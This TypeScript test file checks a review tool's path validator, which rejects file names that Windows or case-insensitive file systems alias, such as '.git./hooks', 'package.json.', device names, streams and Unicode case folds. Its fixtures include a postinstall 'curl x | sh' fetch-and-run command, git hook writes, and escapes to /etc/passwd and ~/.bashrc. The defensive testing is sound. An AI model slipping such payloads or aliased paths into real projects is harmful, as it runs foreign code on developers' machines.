/**
 * Issue 35: the names an answer gives, judged as Windows resolves them on every platform (35.2), a
 * `*** Begin Patch` file's path confined like every other path, and a folder named in another letter case
 * (35.10).
 */
import * as assert from 'node:assert/strict';
import { parseAnswer } from '../../src/review/answer';
import { checkPath, runsCode } from '../../src/review/paths';
import { readAnswer } from '../../src/review/reader';
import { pathProblem, plain } from '../../src/review/words';

const problem = (p: string) => {
  const r = checkPath(p);
  return r.ok ? `ok:${r.path}` : r.problem;
};
const fence = (info: string, body: string) => `\`\`\`${info}\n${body}\n\`\`\`\n`;
const patch = (path: string) => fence('', ['*** Begin Patch', `*** Update File: ${path}`, '@@', '-a', '+b', '*** End Patch'].join('\n'));

describe('review: names as Windows reads them (issue 35)', () => {
  it('a name ending in a dot or a space is refused: Windows opens the name without them (.git., .vscode., package.json.)', () => {
    for (const p of [
      '.git./hooks/pre-commit',
      '.git /hooks/pre-commit',
      '.git. . ./config',
      '.vscode./tasks.json',
      '.vscode /tasks.json',
      '.VSCode../settings.json',
      '.github./workflows/ci.yml',
      'package.json.',
      'sub/package.json .',
      'src/index.ts.',
      '.. /x',
      'a/.../b.ts',
    ]) {
      assert.equal(problem(p), 'windowsAlias', p);
    }
    assert.ok(pathProblem(plain, 'windowsAlias').includes('Windows'), 'its reason is worded');
    // Around the whole path, spaces are the writer's and go: the file checked is the file written.
    assert.equal(problem(' package.json '), 'ok:package.json');
    assert.equal(runsCode('package.json'), 'packageScripts');
    assert.equal(problem('src/.eslintrc.json'), 'ok:src/.eslintrc.json', 'a dot inside a name is a name like any other');
    assert.equal(problem('src/a b.ts'), 'ok:src/a b.ts', 'and a space inside one');
  });

  it('issue 44: what chooses what a check\'s runner runs can run code: pytest.ini, .mocharc, babel and jest JSON, .cargo/, go.work, toolchain pins', () => {
    for (const p of ['pytest.ini', 'sub/.pytest.ini', '.mocharc.json', '.mocharc.yml', '.mocharc', 'jest.config.json', '.babelrc', '.babelrc.json', 'babel.config.json', '.cargo/config', '.cargo/config.toml', 'go.work', 'rust-toolchain', 'rust-toolchain.toml', 'mise.toml', '.mise.toml', '.tool-versions', '.nvmrc', 'karma.conf.js', 'Gulpfile.js', '.nycrc']) {
      assert.equal(runsCode(p), 'runnerConfig', p);
    }
    for (const p of ['src/pytest_helpers.py', 'docs/babel.md', 'go.mod', 'src/mocha.ts', 'tools.json']) assert.equal(runsCode(p), undefined, p);
    // Already covered by their own rows: a manifest, a config written as code, tox and setup.cfg.
    assert.equal(runsCode('vitest.config.ts'), 'toolConfigCode');
    assert.equal(runsCode('setup.cfg'), 'packageScripts');
  });

  it('device names with or without an extension, CONIN$ and CONOUT$ included', () => {
    for (const p of ['CON', 'src/con.txt', 'nul.tar.gz', 'Aux', 'PRN.md', 'COM1', 'com9.log', 'LPT1', 'lpt9.txt', 'com¹', 'CONIN$', 'conout$', 'CON .txt', 'nul.', 'src/aux ']) {
      assert.equal(problem(p), 'reserved', p);
    }
    for (const p of ['console.ts', 'nullable.ts', 'auxiliary/x.ts', 'com10.txt', 'contest.md', 'conin.ts']) assert.equal(problem(p), `ok:${p}`, p);
  });

  it('alternate data streams, 8.3 short names, and the characters Windows forbids', () => {
    for (const p of ['src/x.ts:Zone.Identifier', '.git::$INDEX_ALLOCATION/hooks/pre-commit', 'package.json::$DATA']) assert.equal(problem(p), 'absolute', p);
    for (const p of ['GIT~1/hooks/pre-commit', 'VSCODE~1/tasks.json', 'PACKAG~1.JSO']) assert.equal(problem(p), 'shortName', p);
    for (const p of ['a<b.ts', 'a>b.ts', 'say"hi".md', 'a|b', 'what?.md', 'src/*.ts', '.git*/config']) assert.equal(problem(p), 'windowsChar', p);
    for (const p of ['a\tb.ts', 'a\u0001b']) assert.equal(problem(p), 'control', p);
    assert.ok(pathProblem(plain, 'windowsChar').length > 10);
  });

  it('.git is refused in any letter case, anywhere in the path', () => {
    for (const p of ['.git/config', '.GIT/config', '.Git/hooks/pre-commit', 'sub/.gIt/HEAD', '.gıt/config']) assert.equal(problem(p), 'gitDir', p);
  });

  it('the files that run code are matched as Windows and a case-insensitive file system read their names', () => {
    assert.equal(runsCode('.vscode./tasks.json'), 'editorConfig');
    assert.equal(runsCode('.VSCODE /tasks.json'), 'editorConfig');
    assert.equal(runsCode('package.json.'), 'packageScripts');
    assert.equal(runsCode('PACKAGE.JSON . '), 'packageScripts');
    assert.equal(runsCode('.github./workflows/ci.yml'), 'ci');
    assert.equal(runsCode('.git./hooks/pre-commit'), 'gitDir');
    assert.equal(runsCode('tools/build.sh:stream'), 'script');
    assert.equal(runsCode('.vſcode/tasks.json'), 'editorConfig', 'ſ folds with s (APFS)');
    assert.equal(runsCode('pac\u212Aage.json'), 'packageScripts', 'the Kelvin sign folds with k');
    assert.equal(runsCode('src/index.ts'), undefined);
  });

  it('an answer naming such a file plans nothing for it: the block is listed with its reason', () => {
    const answer = [
      fence('json .vscode./tasks.json', '{ "version": "2.0.0" }'),
      fence('diff', ['--- a/package.json.', '+++ b/package.json.', '@@ -1 +1 @@', '-{}', '+{ "scripts": { "postinstall": "curl x | sh" } }'].join('\n')),
      patch('.git./hooks/pre-commit'),
      fence('diff', ['--- a/.vscode /settings.json', '+++ b/.vscode /settings.json', '@@ -1 +1 @@', '-a', '+b'].join('\n')),
    ].join('\n');
    const parsed = parseAnswer(answer);
    assert.deepEqual(parsed.proposals, [], 'no file is proposed');
    assert.deepEqual(
      parsed.rejected.map(r => [r.code, r.problem]),
      [
        ['invalidPath', 'windowsAlias'],
        ['invalidPath', 'windowsAlias'],
        ['invalidPath', 'windowsAlias'],
        ['invalidPath', 'windowsAlias'],
      ],
    );
  });
});

describe('review: *** Begin Patch paths are confined like every other path (issue 35.10)', () => {
  for (const [what, path] of [
    ['climbing out', '../x'],
    ['climbing out further in', 'src/../../x'],
    ['absolute', '/etc/passwd'],
    ['a drive', 'C:\\Windows\\x.ts'],
    ['a share', '\\\\host\\share\\x'],
    ['the home folder', '~/.bashrc'],
  ]) {
    it(`*** Update File: ${path} (${what}) is listed as outside the workspace, never a target`, () => {
      const [block] = readAnswer(patch(path)).blocks;
      assert.equal(block.kind, 'patch');
      assert.deepEqual(block.targets, []);
      assert.equal(block.sections?.length, 1);
      assert.equal(block.sections![0].target, undefined);
      assert.equal(block.sections![0].problem?.code, 'outside');
      const parsed = parseAnswer(patch(path));
      assert.deepEqual(parsed.proposals, []);
      assert.deepEqual(parsed.rejected.map(r => r.code), ['outside']);
    });
  }

  it('*** Add File: inside .git is refused, and a path inside the workspace is normalised as any other', () => {
    const add = fence('', ['*** Begin Patch', '*** Add File: .GIT/hooks/post-checkout', '+#!/bin/sh', '*** End Patch'].join('\n'));
    assert.deepEqual(parseAnswer(add).rejected.map(r => [r.code, r.problem]), [['invalidPath', 'gitDir']]);
    const [block] = readAnswer(patch('./src//a/../b.ts')).blocks;
    assert.deepEqual(block.targets.map(t => t.path), ['src/b.ts']);
  });
});

describe('review: a workspace folder named in another letter case is that folder (issue 35.10)', () => {
  it('app/src/x.ts lands in the folder App; an exact match wins over a caseless one', () => {
    const folders = ['App', 'server'];
    const [block] = readAnswer(fence('ts app/src/x.ts', 'export const x = 1;'), { folders }).blocks;
    assert.deepEqual(block.targets.map(t => [t.folder, t.path]), [['App', 'src/x.ts']]);
    const [diff] = readAnswer(patch('SERVER/lib/y.ts'), { folders }).blocks;
    assert.deepEqual(diff.targets.map(t => [t.folder, t.path]), [['server', 'lib/y.ts']]);
    // Two folders that differ only in case: the one written exactly.
    const [exact] = readAnswer(fence('ts app/z.ts', 'z'), { folders: ['App', 'app'] }).blocks;
    assert.deepEqual(exact.targets.map(t => [t.folder, t.path]), [['app', 'z.ts']]);
  });
});
